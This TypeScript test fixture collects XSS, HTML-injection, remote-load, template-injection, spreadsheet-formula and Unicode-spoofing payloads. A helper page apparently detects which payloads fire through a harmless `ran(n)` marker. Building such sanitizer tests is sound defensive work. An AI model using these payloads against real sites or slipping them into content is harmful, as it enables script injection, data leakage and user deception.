/**
 * Content that attacks its viewers. Its code calls `ran` with the number of its payload, and its resources are at
 * ELSEWHERE. Sources: the cheat sheets of OWASP and PortSwigger, html5sec, and our own for mail.
 */

export const ELSEWHERE = 'https://elsewhere.invalid';

/** Payloads that run at once on an unprotected page. RUN is replaced by the call. */
const RUN_AT_ONCE = [
  '<script>RUN</script>',
  '<ScRiPt >RUN</sCrIpT>',
  '"><script>RUN</script>',
  "'><script>RUN</script>",
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '</script><script>RUN</script>',
  '--><script>RUN</script>',
  ']]><script>RUN</script>',
  '<script/x>RUN</script>',
  '<script type="module">RUN</script>',
  '<script src="data:text/javascript,RUN"></script>',
  `<script>eval('RUN')</script>`,
  `<script>Function('RUN')()</script>`,
  `<script>setTimeout('RUN')</script>`,
  `<script>import('data:text/javascript,self.RUN')</script>`,
  '<svg><script>RUN</script></svg>',
  '<svg><script>&#x72;an(NUMBER)</script></svg>',
  '<math><mtext><script>RUN</script></mtext></math>',
  '<img src="x:" onerror=RUN>',
  '<IMG SRC="x:" ONERROR=RUN>',
  '<img/src="x:"/onerror=RUN>',
  '<img src="x:" onerror="&#x72;an&#40;NUMBER&#41;">',
  '<img src="x:" onerror="\\u0072an(NUMBER)">',
  `<img src="x:" onerror="self['r'+'an'](NUMBER)">`,
  '<img src="x:" onerror="Reflect.apply(ran,null,[NUMBER])">',
  '"><img src="x:" onerror=RUN>',
  '`><img src="x:" onerror=RUN>',
  '<img """><img src="x:" onerror=RUN>">',
  '<noscript><p title="</noscript><img src=x: onerror=RUN>">',
  '<template></template><img src="x:" onerror=RUN>',
  '<select><option></select><img src="x:" onerror=RUN>',
  '<table><td><img src="x:" onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg><svg onload=RUN>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x dur=1s>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<frameset onload=RUN>',
  '<iframe onload=RUN></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<video src="x:" onerror=RUN></video>',
  '<video><source src="x:" onerror=RUN></video>',
  '<audio src="x:" onerror=RUN></audio>',
  '<input type="image" src="x:" onerror=RUN>',
  '<details open ontoggle=RUN>',
  '<style onload=RUN></style>',
  '<link rel="stylesheet" href="data:text/css," onload=RUN>',
  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=RUN>',
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=RUN//>`,
  `';RUN//";RUN//--></script>">'><script>RUN</script>`,
];

/** Payloads that run when they are clicked. */
const RUN_WHEN_CLICKED = [
  '<a href="javascript:RUN">x</a>',
  '<a href="JaVaScRiPt:RUN">x</a>',
  '<a href=" javascript:RUN">x</a>',
  '<a href="java&Tab;script:RUN">x</a>',
  '<a href="java&NewLine;script:RUN">x</a>',
  '<a href="&#x6a;avascript&colon;RUN">x</a>',
  '<a href="javascript://%0aRUN">x</a>',
  '<a href="#" onclick=RUN>x</a>',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<form><button formaction="javascript:RUN">x</button></form>',
  '<svg><a href="javascript:RUN"><text y="20">x</text></a></svg>',
];

/** Payloads that load something from another server, at the latest when a font or image is needed. */
const LOAD = [
  '<img src="ELSEWHERE">',
  '<img srcset="ELSEWHERE 1x">',
  '<picture><source srcset="ELSEWHERE"><img></picture>',
  '<input type="image" src="ELSEWHERE">',
  '<video poster="ELSEWHERE"></video>',
  '<audio src="ELSEWHERE" autoplay></audio>',
  '<svg><image href="ELSEWHERE"></svg>',
  '<body background="ELSEWHERE">',
  '<p style="background:url(ELSEWHERE)">x</p>',
  '<p style="background:u\\72l(ELSEWHERE)">x</p>',
  '<style>body{background:url(ELSEWHERE)}</style>',
  '<style>@import "ELSEWHERE";</style>',
  '<style>@font-face{font-family:x;src:url(ELSEWHERE)}p{font-family:x}</style><p>x',
  '<style>html{--x:url(ELSEWHERE)}html{background:var(--x)}</style>',
  '<link rel="stylesheet" href="ELSEWHERE">',
  '<link rel="preload" as="image" href="ELSEWHERE">',
  '<script src="ELSEWHERE"></script>',
  '<iframe src="ELSEWHERE"></iframe>',
  '<object data="ELSEWHERE"></object>',
  '<embed src="ELSEWHERE">',
  '<base href="ELSEWHERE/"><img src="x">',
  '<meta http-equiv="refresh" content="0;url=ELSEWHERE">',
  '<form action="ELSEWHERE"><button>x</button></form>',
  `<img src='ELSEWHERE?><p>what follows</p>'>`,
];

/** Payloads that attack templates, tables, or the trust of readers. */
const WORDS = [
  `{{constructor.constructor('RUN')()}}`,
  '${RUN}',
  '<%= RUN %>',
  '#{RUN}',
  '[[${RUN}]]',
  `{{ ''.__class__.__mro__ }}`,
  '{% for x in (1..1000000000) %}x{% endfor %}',
  '__proto__',
  '=HYPERLINK("ELSEWHERE","x")',
  '\u202Efdp.exe',
  '\u2067\u202Emoc.emca@olleh\u2069',
  'а\u0441me.com',
  `e${'\u0301'.repeat(60)}`,
  `${'\u200B'.repeat(20)}x`,
  '<plaintext>',
  '<textarea>',
  '<!--',
];

export type Payload = {
  number: number;
  text: string;
  kind: 'runs' | 'clicked' | 'loads' | 'words';
};

const BY_KIND = {
  runs: RUN_AT_ONCE,
  clicked: RUN_WHEN_CLICKED,
  loads: LOAD,
  words: WORDS,
} satisfies Record<Payload['kind'], string[]>;

export const PAYLOADS: readonly Payload[] = Object.entries(BY_KIND)
  .flatMap(([kind, texts]) => texts.map((text) => ({ kind: kind as Payload['kind'], text })))
  .map(({ kind, text }, number) => ({
    number,
    kind,
    text: text
      .replaceAll('RUN', 'ran(NUMBER)')
      .replaceAll('NUMBER', String(number))
      .replaceAll('ELSEWHERE', `${ELSEWHERE}/${number}`),
  }));

/** Returns an unprotected page in which each payload has its own document. */
export function unprotectedPage(): string {
  const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  const frames = PAYLOADS.map(({ number, text }) => {
    const html = `<script>self.ran=(number)=>top.ran(number)</script>${text}`;
    return `<iframe name="${number}" srcdoc="${escaped(html)}"></iframe>`;
  });
  return `<!doctype html>${frames.join('\n')}`;
}
